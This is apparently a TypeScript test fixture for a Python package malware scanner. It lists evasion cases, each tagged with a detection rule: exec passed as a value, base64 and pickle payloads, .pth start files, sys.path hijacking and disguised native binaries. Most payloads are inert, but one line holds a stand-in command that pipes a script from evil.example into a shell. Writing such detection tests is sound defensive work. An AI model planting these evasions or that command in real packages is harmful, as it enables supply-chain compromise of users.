import { base64, inInit, type Case } from './pack-of.ts'

const decoded = `base64.b64decode("${base64('x = 1')}")`
const program = `import base64\nexec(${decoded})\n`
const elf = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, ...Array.from({ length: 64 }, () => 0)])
const here = 'os.path.dirname(__file__)'

const shell = '("curl https://evil.example/x.sh | sh")'

const handedOn = (name: string, ...lines: string[]): Case =>
  inInit('code-from-data', name, 'import base64, builtins, functools, atexit, threading, types', ...lines)
const unfolded = (name: string, ...lines: string[]): Case => inInit('code-from-data', name, ...lines)
const beside = (
  rule: string,
  name: string,
  lines: readonly string[],
  files: Record<string, string | Uint8Array>,
): Case => ({ name, rule, files: { '__init__.py': `${lines.join('\n')}\n`, ...files } })

/** Evasions: runners passed as values, and code in unlikely places. */
export const evasions: Case[] = [
  handedOn('exec given to map', `list(map(exec, [${decoded}]))`),
  handedOn('exec of a thread', 'threading.Thread(target=exec, args=(CODE,)).start()'),
  handedOn('exec at the end', 'atexit.register(exec, CODE)'),
  handedOn('exec in part', 'functools.partial(exec, CODE)()'),
  handedOn('exec as a decorator', '@exec', '@(lambda c: c.__doc__)', 'class X:', '  "x = 1"'),
  handedOn('exec as a subscript', 'class X:', '  __class_getitem__ = exec', 'X[CODE]'),
  handedOn('eval as a subscript', 'class X:', '  __class_getitem__ = eval', 'X[CODE]'),
  handedOn('exec as a member', 'ns = types.SimpleNamespace(r=exec)', 'ns.r(CODE)'),
  handedOn('exec as an argument', 'def go(f, x):', '  f(x)', 'go(exec, CODE)'),
  handedOn('eval to a lambda', '(lambda f, x: f(x))(eval, CODE)'),
  handedOn('eval under another name to map', 'run = eval', 'list(map(run, CODES))'),
  handedOn('exec by getattr as a value', 'sorted(CODES, key=getattr(builtins, "exec"))'),
  handedOn('exec of decoded text in a function', 'def f():', `  threading.Thread(target=exec, args=(${decoded},))`),
  unfolded('exec of numbers', 'exec((123456789123456789).to_bytes(8, "big"))'),
  unfolded('exec of a documentation', 'def f():', '  "x"', 'exec(f.__doc__)'),
  unfolded('exec of the environment', 'import os', 'os.environ["Q"] = "x"', 'exec(os.environ["Q"])'),
  unfolded('exec of a file that is no Python', 'import os', `exec(open(os.path.join(${here}, "LICENSE")).read())`),
  beside(
    'code-from-data',
    'a text as a module',
    ['import importlib.machinery, os', `importlib.machinery.SourceFileLoader("x", os.path.join(${here}, "data.txt"))`],
    { 'data.txt': program },
  ),
  beside(
    'code-from-data',
    'data as a module',
    ['import importlib.util as u, os', `u.spec_from_file_location("x", os.path.join(${here}, "a.dat"))`],
    { 'a.dat': program },
  ),
  beside('code-from-data', 'data that is run', ['import runpy', 'runpy.run_path("a.dat")'], { 'a.dat': program }),
  beside(
    'code-from-data',
    'tests by a loader',
    [
      'import importlib.machinery as m, os',
      `m.SourceFileLoader("x", os.path.join(${here}, "tests", "da" + "ta.py")).load_module()`,
    ],
    { 'tests/data.py': program },
  ),
  beside(
    'hidden-code',
    'a new ending for sources',
    ['import importlib.machinery as m', 'm.SOURCE_SUFFIXES.append(".txt")', 'from . import data'],
    { 'data.txt': program },
  ),
  beside(
    'hidden-code',
    'a new ending by +=',
    ['from importlib import machinery', 'machinery.SOURCE_SUFFIXES += [".x"]'],
    {},
  ),
  beside(
    'hidden-code',
    'a finder of another ending',
    ['import importlib.machinery as m', 'm.FileFinder(".", (m.SourceFileLoader, [".txt"]))'],
    {},
  ),
  ...[
    `sys.path.insert(0, os.path.join(${here}, "tests"))`,
    `sys.path += [os.path.join(${here}, "tests")]`,
    `sys.path[:0] = [os.path.join(${here}, "tests")]`,
  ].map((line) =>
    beside('code-from-data', `tests on the path: ${line}`, ['import os, sys', line, 'import helper'], {
      'tests/helper.py': program,
    }),
  ),
  beside(
    'code-from-data',
    'tests on the path, under a name of the standard library',
    ['import os, sys', `sys.path.insert(0, os.path.join(${here}, "tests"))`, 'import getpass'],
    { 'tests/getpass.py': program },
  ),
  beside(
    'package-install',
    'a function out of a folder on the path',
    ['import os, sys', `sys.path.insert(0, os.path.join(${here}, "lib"))`, 'from helper import go', 'go()'],
    { 'lib/helper.py': 'import os\ndef go():\n    os.system("pip install inert")\n' },
  ),
  inInit('hidden-code', 'a folder of start files', 'import site, os', `site.addsitedir(${here})`),
  beside('hidden-code', 'a start file', [], { 'x.pth': '# folders\nimport os; print(os)\n' }),
  beside('hidden-code', 'a start file too long to be read', [], { 'x.pth': `#${'x'.repeat(600)}\nimport os\n` }),
  unfolded('a pickle in the code', 'import pickle', 'pickle.loads(b"cbuiltins\\nprint\\n.")'),
  unfolded('a decoded pickle', 'import pickle, base64', `pickle.loads(${decoded})`),
  inInit(
    'suspicious-command',
    'a name by the names of its letters',
    'import os',
    `getattr(os, "\\N{LATIN SMALL LETTER S}ystem")${shell}`,
  ),
  inInit('suspicious-command', 'a name by the number of a letter', 'import os', `getattr(os, f"{115:c}ystem")${shell}`),
  beside('javascript-code-from-data', 'an octal escape', [], { 'web/a.js': 'window["\\145val"](atob("YQ=="))\n' }),
  beside('javascript-code-from-data', 'a continued string', [], { 'web/a.js': 'window["ev\\\nal"](atob("YQ=="))\n' }),
  unfolded('bytecode in the code', 'import marshal', 'marshal.loads(b"\\xe3\\x00")'),
  unfolded('a decoded file of weights', 'import torch, io, base64', `torch.load(io.BytesIO(${decoded}))`),
  beside('disguised-binary', 'native code in place of a source', ['from . import a'], { 'a.py': '', 'a.abi3.so': elf }),
  beside('disguised-binary', 'native code for Windows in place of a source', [], { 'b/a.py': '', 'b/a.pyd': elf }),
  beside(
    'code-from-data',
    'native code that is named as data',
    ['import ctypes, os', `ctypes.CDLL(os.path.join(${here}, "weights.bin"))`],
    { 'weights.bin': elf },
  ),
  unfolded('an archive on the path', 'import sys, os', `sys.path.insert(0, os.path.join(${here}, "lib.zip"))`),
]
